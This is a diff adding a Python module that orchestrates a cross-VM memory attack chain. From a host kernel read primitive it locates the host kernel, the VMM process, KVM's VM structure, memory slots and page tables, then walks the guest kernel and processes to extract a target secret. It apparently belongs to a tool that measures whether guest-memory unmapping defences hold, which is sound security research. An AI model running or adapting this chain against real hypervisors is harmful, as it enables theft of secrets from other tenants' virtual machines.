@@ -1,0 +1,242 @@
+"""The chain: from nothing to a secret in a guest's process, step by step, until it has it or a step is not mapped.
+
+"Ends" is said only of a guest page whose place in the host is known and to which no mapping of the kernel's leads: the
+whole kernel half of the page tables was walked, through the primitive. Whatever else goes wrong loses the trail, and
+that is "unknown".
+"""
+
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager, suppress
+
+from offmap.attack.guest import Guest
+from offmap.attack.host import Host
+from offmap.attack.knowledge import Kernel
+from offmap.attack.linux import Lost, Process
+from offmap.attack.primitive import Counts, NotMapped, Primitive, Unreadable
+from offmap.attack.residue import residues_of
+from offmap.attack.result import Attempt, Outcome, Residue, Stage
+from offmap.attack.target import Target
+from offmap.attack.vm import GuestMemory, Hidden, NotThere, Reached, find_vm, nested_place, read_slots
+from offmap.audit.btf import Unknown
+from offmap.uapi.page import PAGE_SHIFT
+
+_FALLBACK = "other mappings of the guest's pages"
+
+
+class _Ended(Exception):
+    """The chain is over."""
+
+    def __init__(self, outcome: Outcome, stage: str, reason: str) -> None:
+        self.outcome, self.stage, self.reason = outcome, stage, reason
+        super().__init__(reason)
+
+
+class _Report:
+    """What a stage says that it found."""
+
+    def __init__(self) -> None:
+        self.found = ""
+
+
+class Chain:
+    """One attack on one VM.
+
+    Args:
+        primitive: what reads the host.
+        host_kernel, guest_kernel: what is known of them.
+        pid: of the VMM.
+        target: what it is after.
+        base: where the host's kernel image is, if that is known; else it is searched for.
+    """
+
+    def __init__(
+        self,
+        primitive: Primitive,
+        host_kernel: Kernel,
+        guest_kernel: Kernel,
+        pid: int,
+        target: Target,
+        base: int | None = None,
+    ) -> None:
+        self._primitive, self._pid, self._target, self._base = primitive, pid, target, base
+        self._host, self._guest_kernel = Host(primitive, host_kernel), guest_kernel
+        self._stages: list[Stage] = []
+        self._pages: tuple[int | None, int | None, int | None] = None, None, None
+        self._vmm: Process | None = None
+        self._kvm = 0
+        self._memory: GuestMemory | None = None
+
+    def run(self) -> Attempt:
+        """Go as far as it goes."""
+        before, began = self._primitive.counts.copy(), time.monotonic()
+        ended: _Ended
+        try:
+            self._to_the_guest()
+            ended = self._through_the_guest()
+        except _Ended as error:
+            ended = error
+        used, seconds = self._primitive.counts.since(before), time.monotonic() - began
+        guest, mapped, missing = self._pages
+        return Attempt(
+            pid=self._pid,
+            target=self._target.name,
+            outcome=ended.outcome,
+            stage=ended.stage,
+            reason=ended.reason,
+            stages=tuple(self._stages),
+            reads=used.reads,
+            bytes=used.bytes,
+            failures=used.failures,
+            seconds=round(seconds, 3),
+            guest_pages=guest,
+            mapped_pages=mapped,
+            missing_pages=missing,
+            residues=self._residues(),
+        )
+
+    @contextmanager
+    def _stage(self, name: str) -> Iterator[_Report]:
+        """A step: what it reads is counted, and what goes wrong in it ends the chain; but ``Hidden`` is handed on."""
+        before, began, report = self._primitive.counts.copy(), time.monotonic(), _Report()
+        try:
+            yield report
+        except BaseException as error:
+            self._note(name, False, str(error), before, began)
+            if isinstance(error, Reached):
+                raise _Ended(Outcome.REACHED, name, str(error)) from None
+            if isinstance(error, Unreadable):
+                raise _Ended(Outcome.UNKNOWN, name, str(error)) from None
+            if isinstance(error, NotMapped):
+                reason = f"{error}, and it should be: the trail is lost"
+                raise _Ended(Outcome.UNKNOWN, name, reason) from None
+            if isinstance(error, (Lost, Unknown, NotThere)):
+                raise _Ended(Outcome.UNKNOWN, name, str(error)) from None
+            raise
+        self._note(name, True, report.found, before, began)
+
+    def _note(self, name: str, passed: bool, found: str, before: Counts, began: float) -> None:
+        used = self._primitive.counts.since(before)
+        self._stages.append(
+            Stage(
+                name=name,
+                passed=passed,
+                found=found,
+                reads=used.reads,
+                bytes=used.bytes,
+                failures=used.failures,
+                seconds=round(time.monotonic() - began, 3),
+            )
+        )
+
+    def _to_the_guest(self) -> None:
+        host = self._host
+        with self._stage("host: kernel") as stage:
+            base = host.find_image(self._base)
+            stage.found = f"at {base:#x}, {'searched for' if self._base is None else 'given'}"
+        with self._stage("host: direct map") as stage:
+            host.find_direct_map()
+            stage.found = f"from {host.direct_map:#x}, {host.levels} levels of page tables"
+        with self._stage("host: process of the VMM") as stage:
+            self._vmm = host.process(self._pid)
+            if not self._vmm.memory:
+                raise Lost(f"process {self._pid} has no address space")
+            stage.found = f"{self._vmm.name} ({self._pid})"
+        with self._stage("host: VM") as stage:
+            self._kvm = find_vm(host, self._vmm)
+            stage.found = f"struct kvm at {self._kvm:#x}"
+        with self._stage("host: memory slots") as stage:
+            slots = read_slots(host, self._kvm)
+            stage.found = f"{len(slots)} slots, {sum(slot.bytes for slot in slots) >> 20} MiB"
+        with self._stage("host: page tables of the VMM") as stage:
+            table = host.top_table(self._vmm.memory)
+            self._memory = GuestMemory(host, table, slots)
+            stage.found = f"at host page {table:#x}"
+
+    def _through_the_guest(self) -> _Ended:
+        memory = self._memory
+        assert memory is not None
+        try:
+            return self._follow()
+        except Hidden as error:
+            hidden, at = error, self._stages[-1].name
+        self._check_place(hidden)
+        mapped = self._find_aliases(memory)
+        if mapped:
+            # Whatever mapping there is, the same chain may get through by it.
+            with suppress(Hidden):
+                return self._follow()
+            if found := self._search_mapped(memory):
+                return _Ended(Outcome.RECOVERED, self._stages[-1].name, found)
+        if self._pages[2]:
+            reason = f"{self._pages[2]} pages of guest RAM are not in the VMM's page tables: who maps them is unknown"
+            return _Ended(Outcome.UNKNOWN, _FALLBACK, reason)
+        if mapped:
+            what = f"the {mapped} guest pages that are mapped do not have the secret"
+        else:
+            what = "the host kernel maps none of the guest's pages"
+        return _Ended(Outcome.ENDS, at, f"{hidden}; {what}")
+
+    def _follow(self) -> _Ended:
+        """The chain within the guest.
+
+        Raises:
+            Hidden: a page that it needs is not mapped.
+        """
+        assert self._memory is not None
+        guest = Guest(self._memory, self._guest_kernel)
+        with self._stage("guest: kernel") as stage:
+            stage.found = f"at guest page {guest.find_image():#x}, moved by {guest.slide:#x}"
+        with self._stage("guest: direct map") as stage:
+            guest.find_direct_map()
+            stage.found = f"from {guest.direct_map:#x}"
+        with self._stage("guest: processes") as stage:
+            stage.found = f"{sum(1 for _ in guest.processes())} processes"
+        with self._stage("guest: secret") as stage:
+            found = self._target.find(guest)
+            if found is None:
+                raise Lost("the secret is not where it should be")
+            stage.found = found.where
+        return _Ended(Outcome.RECOVERED, "guest: secret", f"{found.bytes} bytes of {self._target.name}: {found.where}")
+
+    def _check_place(self, hidden: Hidden) -> None:
+        """The page that is not mapped must be the guest's for sure: KVM's own page tables must lead to the same one."""
+        with self._stage("host: nested page tables") as stage:
+            place = nested_place(self._host, self._kvm, hidden.gpa)
+            if place is None:
+                stage.found = "they do not have the page now"
+            elif place >> PAGE_SHIFT != hidden.pa >> PAGE_SHIFT:
+                raise Lost(f"they lead to host page {place:#x}, and the VMM's to {hidden.pa:#x}")
+            else:
+                stage.found = "they lead to the same host page"
+
+    def _find_aliases(self, memory: GuestMemory) -> int:
+        """How many of the guest's pages any kernel mapping has; they are read by these mappings from now on."""
+        with self._stage(_FALLBACK) as stage:
+            guest, frames, missing = memory.frames()
+            mappings = self._host.mappings()
+            if mappings.unreadable:
+                raise Lost(f"page tables of the host cannot be read: {mappings.unreadable[0].reason}")
+            mapped = memory.use_aliases(mappings, guest, frames)
+            self._pages = len(frames), mapped, missing
+            tables = sum(mappings.tables.values())
+            stage.found = f"{mapped} of {len(frames)} pages, by {tables} page tables of the host"
+        return mapped
+
+    def _search_mapped(self, memory: GuestMemory) -> str:
+        """Where the secret stands in those pages of the guest's that are mapped; empty if it does not."""
+        with self._stage("guest: pages that are mapped") as stage:
+            for gpa, data in memory.mapped():
+                at = self._target.within(data)
+                if at >= 0:
+                    stage.found = f"the secret, at guest address {gpa + at:#x}"
+                    return stage.found
+            stage.found = "the secret is in none of them"
+        return ""
+
+    def _residues(self) -> tuple[Residue, ...]:
+        if not self._kvm or self._vmm is None:
+            return ()
+        with suppress(Lost, Unknown, NotMapped, Unreadable):
+            return tuple(residues_of(self._host, self._vmm, self._kvm))
+        return ()
